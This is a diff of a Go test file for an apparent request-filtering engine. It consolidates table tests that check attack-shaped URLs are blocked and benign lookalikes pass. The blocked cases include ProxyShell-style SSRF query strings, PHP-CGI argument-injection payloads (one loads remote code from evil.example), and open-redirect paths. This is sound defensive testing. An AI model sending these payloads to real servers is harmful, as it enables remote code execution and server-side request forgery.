@@ -813,81 +813,51 @@ func expectRule(t *testing.T, eng *Engine, r *http.Request, rule string, want bo
 	}
 }
 
-// TestQueryAuthority: a query string that starts with an address and a
-// path, which a backend joining the request target to its own URL reads
-// as the authority (Exchange's ProxyShell), blocks; queries that start
-// with @ for another reason pass.
-func TestQueryAuthority(t *testing.T) {
+// TestRequestTargetRules: shapes of the request target that only an
+// attack writes, each next to the benign targets that share its first
+// bytes. A query string that starts with an address and a path, which a
+// backend joining the target to its own URL reads as the authority
+// (ProxyShell); a query string that is a PHP command-line option, which
+// PHP-CGI takes as its arguments; a redirect route whose last segment
+// encodes another site's URL, and a path that starts with another site's
+// host then an encoded or dot segment.
+func TestRequestTargetRules(t *testing.T) {
 	eng := mustEngine(t, Config{})
 	tests := []struct {
-		target string
-		block  bool
+		target, rule string
+		block        bool
 	}{
-		{"/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3f@evil.example", true},
-		{"/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", true},
-		{"/autodiscover/autodiscover.json?%40evil.example%2fPowershell", true},
-		{"/x?@10.0.0.5:8080/admin", true},
-		{"/x?@EVIL.Example/", true},
-		// Benign twins.
-		{"/search?@alice", false},
-		{"/users?@me=1", false},
-		{"/share?q=@evil.example/x", false},
-		{"/feed?@handle/posts", false},
-		{"/x?a=1&@b.example/c", false},
+		{"/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/autodiscover.json%3f@evil.example", "ssrf-query-authority", true},
+		{"/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", "ssrf-query-authority", true},
+		{"/autodiscover/autodiscover.json?%40evil.example%2fPowershell", "ssrf-query-authority", true},
+		{"/x?@10.0.0.5:8080/admin", "ssrf-query-authority", true},
+		{"/x?@EVIL.Example/", "ssrf-query-authority", true},
+		{"/search?@alice", "ssrf-query-authority", false},
+		{"/users?@me=1", "ssrf-query-authority", false},
+		{"/share?q=@evil.example/x", "ssrf-query-authority", false},
+		{"/feed?@handle/posts", "ssrf-query-authority", false},
+		{"/x?a=1&@b.example/c", "ssrf-query-authority", false},
+		{"/index.php?-s", "rce-php-cgi-argument", true},
+		{"/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://evil.example/x.txt", "rce-php-cgi-argument", true},
+		{"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "rce-php-cgi-argument", true},
+		{"/index.php?%2dd+allow_url_include%3d1", "rce-php-cgi-argument", true},
+		{"/search?-price", "rce-php-cgi-argument", false},
+		{"/sort?-created_at&limit=10", "rce-php-cgi-argument", false},
+		{"/x?-d=1", "rce-php-cgi-argument", false},
+		{"/x?a=1&-s", "rce-php-cgi-argument", false},
+		{"/redirect/%2F%2Fevil.example%2F", "redirect-open", true},
+		{"/out/https:%2F%2Fevil.example", "redirect-open", true},
+		{"/go/%5C%5Cevil.example", "redirect-open", true},
+		{"//evil.example/%2e%2e", "redirect-open", true},
+		{"//evil.example/..;/", "redirect-open", true},
+		{"/redirect/%2Fcheckout%2Fdone", "redirect-open", false},
+		{"/out/https:%2F%2Fapp.example.com%2Faccount", "redirect-open", false},
+		{"/files/a%2Fb.txt", "redirect-open", false},
+		{"//api/v1/users", "redirect-open", false},
+		{"//app.example.com/%2e%2e", "redirect-open", false},
 	}
 	for _, tc := range tests {
-		expectRule(t, eng, newReq("GET", "http://app.example.com"+tc.target, "", ""), "ssrf-query-authority", tc.block, tc.target)
-	}
-}
-
-// TestPHPCGIArgument: a query string that is a PHP command-line option,
-// which PHP-CGI takes as its arguments, blocks; queries that start with a
-// dash for another reason pass.
-func TestPHPCGIArgument(t *testing.T) {
-	eng := mustEngine(t, Config{})
-	tests := []struct {
-		target string
-		block  bool
-	}{
-		{"/index.php?-s", true},
-		{"/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://evil.example/x.txt", true},
-		{"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", true},
-		{"/index.php?%2dd+allow_url_include%3d1", true},
-		// Benign twins.
-		{"/search?-price", false},
-		{"/sort?-created_at&limit=10", false},
-		{"/x?-d=1", false},
-		{"/x?a=1&-s", false},
-	}
-	for _, tc := range tests {
-		expectRule(t, eng, newReq("GET", "http://app.example.com"+tc.target, "", ""), "rce-php-cgi-argument", tc.block, tc.target)
-	}
-}
-
-// TestPathRedirect: a redirect route whose last segment encodes another
-// site's URL, and a path that starts with another site's host then an
-// encoded or dot segment, block; routes with encoded slashes of the
-// site's own paths, and double slashes of a client's, pass.
-func TestPathRedirect(t *testing.T) {
-	eng := mustEngine(t, Config{})
-	tests := []struct {
-		target string
-		block  bool
-	}{
-		{"/redirect/%2F%2Fevil.example%2F", true},
-		{"/out/https:%2F%2Fevil.example", true},
-		{"/go/%5C%5Cevil.example", true},
-		{"//evil.example/%2e%2e", true},
-		{"//evil.example/..;/", true},
-		// Benign twins.
-		{"/redirect/%2Fcheckout%2Fdone", false},
-		{"/out/https:%2F%2Fapp.example.com%2Faccount", false},
-		{"/files/a%2Fb.txt", false},
-		{"//api/v1/users", false},
-		{"//app.example.com/%2e%2e", false},
-	}
-	for _, tc := range tests {
-		expectRule(t, eng, newReq("GET", "http://app.example.com"+tc.target, "", ""), "redirect-open", tc.block, tc.target)
+		expectRule(t, eng, newReq("GET", "http://app.example.com"+tc.target, "", ""), tc.rule, tc.block, tc.target)
 	}
 }
 
